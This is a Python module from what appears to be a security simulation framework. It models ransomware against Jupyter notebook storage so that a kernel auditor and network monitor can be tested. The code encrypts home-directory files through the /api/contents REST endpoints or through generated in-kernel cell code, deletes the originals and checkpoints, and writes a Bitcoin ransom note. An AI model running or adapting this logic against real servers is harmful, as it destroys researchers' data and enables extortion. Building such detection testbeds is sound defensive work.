@@ -1,0 +1,183 @@
+"""Ransomware against notebook storage (taxonomy: ransomware →
+inaccessible/incorrect data, disruption of computing).
+
+Two delivery variants, matching how real campaigns have hit Jupyter:
+
+- ``via="kernel"`` — the payload runs as cell code: enumerate the home
+  tree, encrypt every artifact with ChaCha20, rename to ``.locked``,
+  drop the note.  Visible to the *kernel auditor* (mass-overwrite
+  policy, entropy burst via the cross-feed); the network sees only a
+  small execute_request.
+- ``via="rest"`` — the attacker (or a hijacked browser session) rewrites
+  files through ``/api/contents``.  Visible to the *network monitor*
+  (high-entropy PUT bodies).
+
+Mature behaviour is modelled: checkpoints are destroyed first, and the
+encryption key leaves with the attacker, so recovery without backups is
+impossible (the decrypt helper exists to prove the crypto is real).
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+from typing import List, Set
+
+from repro.attacks.base import Attack, AttackResult
+from repro.attacks.scenario import Scenario
+from repro.crypto.chacha20 import chacha20_decrypt, chacha20_encrypt
+from repro.taxonomy.oscrp import Avenue, Concern
+
+RANSOM_NOTE = (
+    "ALL YOUR RESEARCH FILES HAVE BEEN ENCRYPTED.\n"
+    "To receive the decryption key, transfer 2 BTC to wallet "
+    "bc1qexample... within 72 hours or the key is destroyed.\n"
+)
+
+
+class RansomwareAttack(Attack):
+    """Encrypt-and-extort against the victim's home directory."""
+
+    name = "ransomware"
+    avenue = Avenue.RANSOMWARE
+    technique = "notebook-encryption"
+
+    def __init__(self, *, via: str = "kernel", destroy_checkpoints: bool = True,
+                 key: bytes = b"\xa5" * 32, nonce: bytes = b"\x01" * 12,
+                 extensions: tuple = (".ipynb", ".csv", ".bin", ".txt")):
+        if via not in ("kernel", "rest"):
+            raise ValueError("via must be 'kernel' or 'rest'")
+        self.via = via
+        self.destroy_checkpoints = destroy_checkpoints
+        self.key = key
+        self.nonce = nonce
+        self.extensions = extensions
+
+    # -- helpers -----------------------------------------------------------------
+    def decrypt(self, blob: bytes) -> bytes:
+        """What the victim could do *if* they had the key."""
+        return chacha20_decrypt(self.key, self.nonce, blob)
+
+    def _victim_files(self, scenario: Scenario) -> List[str]:
+        root = scenario.server.config.root_dir
+        return [
+            p for p in scenario.server.fs.walk(root)
+            if p.endswith(self.extensions) and ".ipynb_checkpoints" not in p
+        ]
+
+    # -- execution ------------------------------------------------------------------
+    def execute(self, scenario: Scenario) -> AttackResult:
+        before = scenario.server.fs.snapshot()
+        if self.via == "kernel":
+            encrypted = self._run_via_kernel(scenario)
+        else:
+            encrypted = self._run_via_rest(scenario)
+        after = scenario.server.fs.snapshot()
+
+        concerns: Set[Concern] = set()
+        made_unreadable = [p for p in before if p not in after and ".ipynb_checkpoints" not in p]
+        if encrypted and made_unreadable:
+            concerns.add(Concern.INACCESSIBLE_OR_INCORRECT_DATA)
+        checkpoints_gone = self.destroy_checkpoints and not any(
+            ".ipynb_checkpoints" in p for p in after
+        )
+        if checkpoints_gone:
+            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
+        return self._result(
+            success=bool(encrypted),
+            concerns=concerns,
+            narrative=f"encrypted {len(encrypted)} files via {self.via}",
+            files_encrypted=len(encrypted),
+            checkpoints_destroyed=checkpoints_gone,
+            note_dropped=any(p.endswith("READ_ME_TO_RECOVER.txt") for p in after),
+        )
+
+    def _run_via_rest(self, scenario: Scenario) -> List[str]:
+        client = scenario.attacker_client(token=scenario.token)
+        root_model = client.json("GET", "/api/contents/")
+        encrypted: List[str] = []
+
+        def walk(model: dict) -> None:
+            for entry in model.get("content") or []:
+                if entry["type"] == "directory":
+                    walk(client.json("GET", f"/api/contents/{entry['path']}"))
+                elif entry["name"].endswith(self.extensions):
+                    full = client.json("GET", f"/api/contents/{entry['path']}")
+                    raw = self._model_bytes(full)
+                    blob = chacha20_encrypt(self.key, self.nonce, raw)
+                    client.json("PUT", f"/api/contents/{entry['path']}.locked", {
+                        "type": "file", "format": "base64",
+                        "content": base64.b64encode(blob).decode(),
+                    })
+                    client.request("DELETE", f"/api/contents/{entry['path']}")
+                    encrypted.append(entry["path"])
+
+        walk(root_model)
+        if self.destroy_checkpoints:
+            # Checkpoint files live under .ipynb_checkpoints; nuke via fs walk.
+            for p in list(scenario.server.fs.walk(scenario.server.config.root_dir)):
+                if ".ipynb_checkpoints" in p:
+                    scenario.server.fs.delete(p)
+        client.json("PUT", "/api/contents/READ_ME_TO_RECOVER.txt",
+                    {"type": "file", "content": RANSOM_NOTE})
+        return encrypted
+
+    @staticmethod
+    def _model_bytes(model: dict) -> bytes:
+        if model.get("format") == "base64":
+            return base64.b64decode(model["content"])
+        if model["type"] == "notebook":
+            return json.dumps(model["content"], sort_keys=True).encode()
+        return str(model.get("content", "")).encode()
+
+    def _run_via_kernel(self, scenario: Scenario) -> List[str]:
+        client = scenario.user_client(username="attacker-via-stolen-session")
+        scenario.audited_session(client)
+        targets = self._victim_files(scenario)
+        key_literal = ",".join(str(b) for b in self.key)
+        # The in-kernel payload: a pure-MiniPython XOR-stream cipher.  A real
+        # sample ships real crypto; for the simulation the *observable*
+        # (high-entropy overwrite burst) is produced by mixing the keystream
+        # from the metered hashlib — which also looks like real packers do.
+        code_lines = [
+            "import os, hashlib",
+            f"key_bytes = [{key_literal}]",
+            "def keystream(n, counter):",
+            "    out = []",
+            "    i = 0",
+            "    while len(out) < n:",
+            "        h = hashlib.sha256(bytes(key_bytes) + bytes([counter % 256, i % 256]))",
+            "        out.extend(h.digest())",
+            "        i += 1",
+            "    return out[:n]",
+            "count = 0",
+        ]
+        root = scenario.server.config.root_dir
+        for path in targets:
+            rel = path[len(root) + 1:] if path.startswith(root + "/") else path
+            code_lines += [
+                f"data = open('/{path}', 'rb').read()",
+                "ks = keystream(len(data), count)",
+                "blob = bytes([b ^ k for b, k in zip(data, ks)])",
+                f"out = open('/{path}.locked', 'wb')",
+                "out.write(blob)",
+                "out.close()",
+                f"os.remove('/{path}')",
+                "count += 1",
+            ]
+        if self.destroy_checkpoints:
+            code_lines += [
+                f"for p in os.walk_paths('/{root}'):",
+                "    if '.ipynb_checkpoints' in p:",
+                "        os.remove('/' + p)",
+            ]
+        note = RANSOM_NOTE.replace("\n", "\\n").replace("'", "\\'")
+        code_lines += [
+            f"note = open('/{root}/READ_ME_TO_RECOVER.txt', 'w')",
+            f"note.write('{note}')",
+            "note.close()",
+        ]
+        reply = client.execute("\n".join(code_lines), wait=120.0)
+        if reply is None or reply.content.get("status") != "ok":
+            return []
+        return targets
